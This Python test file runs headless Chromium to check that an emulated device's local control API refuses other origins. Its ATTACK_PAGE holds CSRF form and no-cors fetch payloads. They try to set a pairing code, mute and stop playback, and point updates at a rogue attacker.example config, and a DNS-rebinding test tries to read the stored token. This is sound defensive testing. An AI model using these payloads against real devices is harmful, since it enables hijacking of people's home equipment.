#!/usr/bin/python3
"""Web pages of other origins against the emulated device, in Debian's headless Chromium.

The attacker is a web page of another origin: the test serves it from a small HTTP server of its
own on another port, under the name attacker.example (Chromium resolves it, and
rebind.attacker.example, to 127.0.0.1, as a rebinding DNS server would). The page knows the
device's port (the demo prints it; a page can scan for it) and tries what any web site can do
without a CORS preflight. "Held" means: the device's settings file is unchanged, no pairing was
typed (the host's log has no pairing line), the device's page never shows inside the attacker's
frame, and the device logged each request it refused.

Environment: as test_device_page.py.
"""
import http.server
import json
import os
import shutil
import tempfile
import threading
import time
import unittest

from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from test_device_page import TIMEOUT, Device, chromium

ATTACKER = 'attacker.example'
REBINDING = 'rebind.attacker.example'

# Every request a page of any site may send without a preflight, then the device's page in a frame.
ATTACK_PAGE = '''<!doctype html>
<html><head><meta charset="utf-8"><title>cat pictures</title></head>
<body>
<form id="csrf" method="POST" enctype="text/plain" action="DEVICE/api/value" target="sink">
  <input name='{"path": "orvello/browse/uiPairCode", "value": "ABCDEF", "x": "' value='"}'>
</form>
<iframe name="sink"></iframe>
<iframe id="device" src="DEVICE/"></iframe>
<script>
const device = 'DEVICE';
function post(path, body, type) {
  const init = {method: 'POST', mode: 'no-cors'};
  if (body !== undefined)
    init.body = body;
  if (type)
    init.headers = {'Content-Type': type};
  return fetch(device + path, init).then(() => 'answered', (e) => 'failed: ' + e);
}
window.attack = (async () => {
  const results = [];
  results.push(await post('/api/value', JSON.stringify({path: 'settings/orvello/versionUrl', value: 'ROGUE'}), 'text/plain'));
  results.push(await post('/api/value', JSON.stringify({path: 'orvello/browse/uiPairCode', value: 'ABCDEF'})));
  results.push(await post('/api/invoke', JSON.stringify({path: 'orvello/setPairCode', value: 'ABCDEF'}),
                          'application/x-www-form-urlencoded'));
  results.push(await post('/api/volume', JSON.stringify({volume: 0}), 'multipart/form-data; boundary=x'));
  results.push(await post('/api/player/stop'));
  document.getElementById('csrf').submit();
  return results;
})();
</script>
</body></html>
'''


class Attacker(http.server.ThreadingHTTPServer):
    """The web site of another origin: its attack page, and its own rogue update document."""

    def __init__(self, device_port):
        self.requests = []
        super().__init__(('127.0.0.1', 0), AttackerHandler)
        self.page = ATTACK_PAGE.replace('DEVICE', f'http://127.0.0.1:{device_port}') \
                               .replace('ROGUE', f'http://{ATTACKER}:{self.server_port}/config.json')
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def url(self, path):
        return f'http://{ATTACKER}:{self.server_port}{path}'


class AttackerHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.requests.append(self.path)
        body = self.server.page.encode() if self.path == '/attack.html' else b'{}'
        self.send_response(200)
        self.send_header('Content-Type', 'text/html; charset=utf-8' if self.path == '/attack.html' else 'application/json')
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class OtherOrigins(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.profile = tempfile.mkdtemp(prefix='chromium-profile-')
        cls.driver = chromium(cls.profile, f'--host-resolver-rules=MAP {ATTACKER} 127.0.0.1, MAP {REBINDING} 127.0.0.1')

    @classmethod
    def tearDownClass(cls):
        cls.driver.quit()
        shutil.rmtree(cls.profile, ignore_errors=True)

    def setUp(self):
        self.work = tempfile.mkdtemp(prefix='other-origins-')
        self.device = Device(self.work)
        self.settings_file = os.path.join(self.work, 'device', 'settings.json')
        with open(self.settings_file, 'rb') as file:
            self.settings = file.read()
        self.driver.get_log('browser')  # what earlier tests left

    def tearDown(self):
        try:
            self.device.stop()
        finally:
            shutil.rmtree(self.work, ignore_errors=True)

    def wait(self, condition, message):
        try:
            return WebDriverWait(self.driver, TIMEOUT, poll_frequency=0.05).until(lambda driver: condition())
        except Exception:
            self.fail(message() if callable(message) else message)

    def refusals(self):
        return [line for line in self.device.log().splitlines() if 'WARN  [ControlApi] Refused ' in line]

    def expect_unchanged(self):
        with open(self.settings_file, 'rb') as file:
            self.assertEqual(file.read(), self.settings, 'the settings file changed')
        log = self.device.log()
        self.assertNotIn('Initiating pairing', log)
        self.assertNotIn('Pairing successful', log)
        self.assertEqual(self.device.play_logic()['state'], 0)
        self.assertEqual(self.device.api('GET', '/api/volume')[1]['volume'], 50)

    def test_page_of_another_origin_changes_nothing(self):
        attacker = Attacker(self.device.port)
        try:
            self.driver.get(attacker.url('/attack.html'))
            results = self.driver.execute_async_script('window.attack.then(arguments[arguments.length - 1]);')
            self.assertEqual(len(results), 5)
            # Five fetches, the form, and the frame: each one reached the device and was refused.
            origin = f'requests from pages of "http://{ATTACKER}:{attacker.server_port}" are not accepted'
            self.wait(lambda: len([line for line in self.refusals() if origin in line]) >= 6,
                      lambda: 'the device did not refuse every request:\n' + '\n'.join(self.refusals()))
            self.wait(lambda: any(' Refused GET / from ' in line for line in self.refusals()),
                      lambda: 'the frame did not reach the device:\n' + '\n'.join(self.refusals()))
            refused = self.refusals()
            for path in ('/api/value', '/api/invoke', '/api/volume', '/api/player/stop'):
                self.assertTrue(any(f'Refused POST {path} from ' in line for line in refused), f'{path}: {refused}')
            # The frame: Chromium blocks it for the page's policy and shows nothing of the device.
            self.wait(lambda: any("frame-ancestors 'none'" in entry['message'] for entry in self.driver.get_log('browser')),
                      'Chromium did not report the frame-ancestors block')
            self.driver.switch_to.frame(self.driver.find_element(By.ID, 'device'))
            self.assertEqual(self.driver.find_elements(By.ID, 'pages'), [])
            self.assertNotIn('Vrax device', self.driver.page_source)
            self.driver.switch_to.default_content()
            self.expect_unchanged()
            self.assertNotIn('/config.json', attacker.requests)
        finally:
            attacker.shutdown()
            attacker.server_close()

    def test_rebinding_host_gets_nothing(self):
        # After rebinding, the attacker's own name points at the device: Chromium sends its name as Host.
        self.driver.get(f'http://{REBINDING}:{self.device.port}/')
        self.assertIn('is not this server', self.driver.find_element(By.TAG_NAME, 'body').text)
        self.assertEqual(self.driver.find_elements(By.ID, 'pages'), [])
        answers = self.driver.execute_async_script('''
            const done = arguments[arguments.length - 1];
            const ask = (path, init) => fetch(path, init).then(async (r) => [r.status, await r.text()]);
            Promise.all([
              ask('/api/value?path=settings/orvello/token'),
              ask('/api/events'),
              ask('/api/value', {method: 'POST', headers: {'Content-Type': 'application/json'},
                                 body: JSON.stringify({path: 'orvello/browse/uiPairCode', value: 'ABCDEF'})}),
            ]).then(done, (e) => done(String(e)));''')
        self.assertEqual([status for status, _ in answers], [403, 403, 403], answers)
        for _, body in answers:
            message = json.loads(body)['error']['message']
            self.assertTrue(message.startswith(f'the Host header "{REBINDING}:{self.device.port}" is not this server'), message)
        self.expect_unchanged()


if __name__ == '__main__':
    unittest.main(verbosity=2)
